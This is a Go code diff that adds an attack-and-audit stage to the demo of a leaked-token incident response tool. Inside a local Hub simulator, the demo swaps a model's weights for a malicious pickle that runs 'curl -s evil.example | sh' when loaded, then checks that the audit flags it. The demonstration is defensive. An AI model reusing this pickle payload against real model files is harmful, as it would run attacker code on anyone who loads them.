@@ -13,6 +13,7 @@ import (
 	"github.com/spf13/cobra"
 
 	"github.com/hfwarden/hfwarden/internal/assess"
+	"github.com/hfwarden/hfwarden/internal/audit"
 	"github.com/hfwarden/hfwarden/internal/detect"
 	"github.com/hfwarden/hfwarden/internal/hub"
 	"github.com/hfwarden/hfwarden/internal/hubsim"
@@ -28,7 +29,7 @@ func newDemoCmd(e *env) *cobra.Command {
 		Short: "Run a whole leak response against the built-in Hub simulator",
 		Long: `Start the built-in Hub simulator, write a small git repository that leaked a
 simulator token (in a commit that was later "fixed", and in a notebook output),
-then scan → assess → revoke → report, recording everything in an incident store.
+then scan → assess → (an attacker uses the token) → audit → revoke → report, recording everything in an incident store.
 DIR (default: a new temporary directory) keeps the repository, the database and
 report.html. Nothing leaves this machine: the simulator's tokens are valid nowhere
 else.`,
@@ -118,6 +119,43 @@ func runDemo(ctx context.Context, e *env, out string) error {
 		fmt.Fprintf(e.stdout, "      %s\n", why)
 	}
 
+	// While the token was out, somebody used it: swap a model's weights for
+	// a pickle that runs a command when loaded. The audit must say so.
+	var target string
+	for _, rp := range r.Repos {
+		if rp.Type == hub.RepoModel && (rp.Access == assess.Write || rp.Access == assess.Admin) {
+			target = rp.ID
+			break
+		}
+	}
+	if target == "" {
+		return fmt.Errorf("the demo token can write no model")
+	}
+	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
+	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
+		return fmt.Errorf("playing the attacker: %w", err)
+	}
+	step("an attacker used the leaked token: %s/pytorch_model.bin now holds a pickle that runs a shell command", target)
+
+	aopt := audit.Options{Client: c}
+	if _, err := prepareIncidentAudit(ctx, st, id, &aopt, tokenSource{}, nil); err != nil {
+		return err
+	}
+	aopt.Owner, aopt.Repos = r.Owner, writableRepos(r)
+	ar, err := audit.Run(ctx, aopt)
+	if err != nil {
+		return fmt.Errorf("auditing: %w", err)
+	}
+	if err := st.SaveAudit(ctx, id, ar, time.Now().UTC()); err != nil {
+		return err
+	}
+	step("audit: %d finding(s) in %d writable repositories since the exposure started", len(ar.Findings), len(aopt.Repos))
+	for _, f := range ar.Findings {
+		if audit.Rank(f.Severity) >= audit.Rank(audit.High) {
+			fmt.Fprintf(e.stdout, "      %s %s %s: %s\n", f.Severity, f.Kind, f.Repo, f.Evidence)
+		}
+	}
+
 	in, err := st.Incident(ctx, id)
 	if err != nil {
 		return err
@@ -137,7 +175,12 @@ func runDemo(ctx context.Context, e *env, out string) error {
 		return err
 	}
 	bw := bufio.NewWriter(f)
-	if err := incidentreport.HTML(bw, incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC()}); err != nil {
+	au, auAt, err := st.Audit(ctx, id)
+	if err != nil {
+		return err
+	}
+	data := incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC(), Audit: incidentreport.FromAudit(au, auAt)}
+	if err := incidentreport.HTML(bw, data); err != nil {
 		f.Close()
 		return err
 	}
